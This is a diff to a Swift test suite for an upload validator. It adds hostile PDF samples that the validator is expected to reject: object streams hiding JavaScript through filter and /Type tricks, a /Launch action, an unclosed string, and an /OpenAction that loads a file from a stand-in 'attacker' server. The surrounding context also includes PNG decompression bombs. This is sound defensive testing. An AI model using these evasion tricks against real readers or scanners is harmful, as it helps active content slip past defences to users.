@@ -82,6 +82,27 @@ struct HostileUploadTests {
                 EvidenceSamples.pdf(objects: EvidenceSamples.pdfStream(
                     number: 4, dictionary: "/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", data: [0x80, 0x0B, 0x60, 0x50])),
                 "uninspectable_content"),
+            invalid(
+                "a PDF whose string never closes, so that the rest is read as text", "a.pdf", "application/pdf",
+                EvidenceSamples.pdf(catalog: "/Title (never closed "), "malformed_file"),
+            invalid(
+                "a PDF object stream without its /Type, hiding JavaScript", "a.pdf", "application/pdf",
+                EvidenceSamples.pdf(objects: EvidenceSamples.pdfStream(
+                    number: 4, dictionary: "/N 1 /First 4 /Filter /FlateDecode",
+                    data: EvidenceSamples.deflate(Array("5 0 << /S /JavaScript /JS (app.alert(1)) >>".utf8)))), "active_content"),
+            invalid(
+                "a PDF stream that names its /Type twice", "a.pdf", "application/pdf",
+                EvidenceSamples.pdf(objects: EvidenceSamples.pdfStream(
+                    number: 4, dictionary: "/Type /XObject /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
+                    data: EvidenceSamples.deflate(Array("5 0 << /S /JavaScript /JS (app.alert(1)) >>".utf8)))), "uninspectable_content"),
+            invalid(
+                "a PDF object stream behind a PNG predictor", "a.pdf", "application/pdf",
+                EvidenceSamples.pdf(objects: EvidenceSamples.pdfStream(
+                    number: 4, dictionary: "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2 >>",
+                    data: EvidenceSamples.deflate(Array("5 0 << /S /Launch >>".utf8)))), "uninspectable_content"),
+            invalid(
+                "a PDF opening a document on the attacker's server", "a.pdf", "application/pdf",
+                EvidenceSamples.pdf(catalog: #"/OpenAction << /S /GoToR /F (\\\\attacker\\s\\x.pdf) >> "#), "active_content"),
             // Images too large to open: headers and decompression bombs.
             invalid("a PNG header of 20,000 × 20,000 pixels", "big.png", "image/png", EvidenceSamples.png(width: 20_000, height: 20_000), "image_too_large"),
             invalid("a PNG decompression bomb (15,000 × 15,000 in 67 bytes)", "bomb.png", "image/png", EvidenceSamples.png(width: 15_000, height: 15_000), "image_too_large"),
